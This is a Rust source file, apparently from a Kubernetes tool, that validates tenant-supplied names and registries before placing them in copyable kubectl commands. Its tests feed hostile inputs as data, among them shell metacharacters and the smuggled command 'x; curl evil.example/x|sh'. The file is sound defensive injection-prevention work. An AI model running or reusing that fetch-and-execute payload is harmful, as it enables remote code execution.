//! Commands that a person copies from our output into a shell.
//!
//! Much of what a cluster returns is free text that a tenant wrote: the API server checks neither the names in a Pod's
//! `imagePullSecrets` nor those in `ownerReferences`. So text from outside goes into a command only through the functions
//! here. What they refuse is described in words instead.

use crate::core::pod::{INJECT_LABEL, OPTED_IN};

/// The longest name of an object (`DNS1123SubdomainMaxLength` of `k8s.io/apimachinery`), in bytes.
const NAME_MAX: usize = 253;

/// The longest registry that goes into a command, in bytes: a host of 253, a port, and a path.
const REGISTRY_MAX: usize = 512;

/// A text if it is the name of an object in Kubernetes, a DNS-1123 subdomain: it needs no quotes, is no flag, and means
/// nothing to a shell.
pub(crate) fn name(text: &str) -> Option<&str> {
    let is_inner = |byte: u8| matches!(byte, b'a'..=b'z' | b'0'..=b'9' | b'-');
    let is_label = |label: &str| {
        !label.is_empty()
            && label.bytes().all(is_inner)
            && !label.starts_with('-')
            && !label.ends_with('-')
    };
    (text.len() <= NAME_MAX && text.split('.').all(is_label)).then_some(text)
}

/// All of `texts` with a blank between them if each of them is a [`name`].
pub(crate) fn names<'t>(texts: impl IntoIterator<Item = &'t str>) -> Option<String> {
    let names: Vec<&str> = texts.into_iter().map(name).collect::<Option<_>>()?;
    (!names.is_empty()).then(|| names.join(" "))
}

/// A registry, `host[:port][/path]`, as one word of a command. IPv6 addresses are quoted: shells take brackets for a glob.
pub(crate) fn registry(text: &str) -> Option<String> {
    let is_plain =
        |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b':' | b'/' | b'_' | b'-');
    let starts_well = text.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '[');
    if !starts_well || text.len() > REGISTRY_MAX {
        return None;
    }
    if text.bytes().all(is_plain) {
        return Some(text.to_owned());
    }
    let (address, rest) = text.strip_prefix('[')?.split_once(']')?;
    let is_address = address.bytes().all(|byte| byte.is_ascii_hexdigit() || byte == b':');
    (is_address && rest.bytes().all(is_plain)).then(|| format!("'{text}'"))
}

/// How to opt a namespace in, also where its label has another value.
pub(crate) fn opt_in(namespace: &str) -> String {
    match name(namespace) {
        Some(namespace) => {
            format!("kubectl label --overwrite namespace {namespace} {INJECT_LABEL}={OPTED_IN}")
        }
        None => format!("set its label {INJECT_LABEL} to {OPTED_IN}"),
    }
}

/// How to delete so many Pods. Where `pods` are not the names of all of them, and where one is invalid, they are not written
/// out.
pub(crate) fn delete_pods(namespace: &str, pods: &[String], count: usize) -> String {
    let words = || {
        if count == 1 { "delete the Pod".to_owned() } else { format!("delete these {count} Pods") }
    };
    let (Some(namespace), true) = (name(namespace), count == pods.len()) else { return words() };
    let pods = names(pods.iter().map(String::as_str));
    pods.map_or_else(words, |pods| format!("kubectl delete pod -n {namespace} {pods}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_names_go_into_a_command() {
        for good in ["a", "web-0", "a.b-c.d1", "0", &"a".repeat(253)] {
            assert_eq!(name(good), Some(good));
        }
        for bad in [
            "",
            "-A",
            "--all",
            "a-",
            "a..b",
            ".a",
            "A",
            "a b",
            "a\nb",
            "a;b",
            "a$(b)",
            "a`b`",
            "a|b",
            "a&b",
            "a>b",
            "a'b",
            "a\"b",
            "a\\b",
            "a*",
            "~a",
            "a=b",
            "a/b",
            "ä",
            "a\u{200b}b",
            "a\u{202e}b",
            &"a".repeat(254),
        ] {
            assert_eq!(name(bad), None, "{bad:?}");
            assert_eq!(names(["a", bad]), None, "{bad:?}");
        }
    }

    #[test]
    fn a_registry_is_one_word_for_a_shell() {
        for (text, word) in [
            ("ghcr.io", "ghcr.io"),
            ("r.example.com:5000/team_a/x", "r.example.com:5000/team_a/x"),
            ("[fd00::1]:5000", "'[fd00::1]:5000'"),
        ] {
            assert_eq!(registry(text).as_deref(), Some(word));
        }
        for bad in
            ["", "-x", "a b", "a;b", "$(a)", "[a'b]", "[::1]'x", "[::1", "a\n", "\u{202e}a", "a[b]"]
        {
            assert_eq!(registry(bad), None, "{bad:?}");
        }
    }

    #[test]
    fn what_is_no_name_is_described_in_words() {
        let evil = "x; curl evil.example/x|sh";
        let pods = |names: &[&str]| names.iter().map(ToString::to_string).collect::<Vec<_>>();
        assert_eq!(delete_pods("shop", &pods(&["a", evil]), 2), "delete these 2 Pods");
        assert_eq!(delete_pods(evil, &pods(&["a"]), 1), "delete the Pod");
        assert_eq!(delete_pods("shop", &pods(&["a", "b"]), 2), "kubectl delete pod -n shop a b");
        assert_eq!(delete_pods("shop", &pods(&["a"]), 2), "delete these 2 Pods");
        assert!(!opt_in(evil).contains("evil"));
    }
}
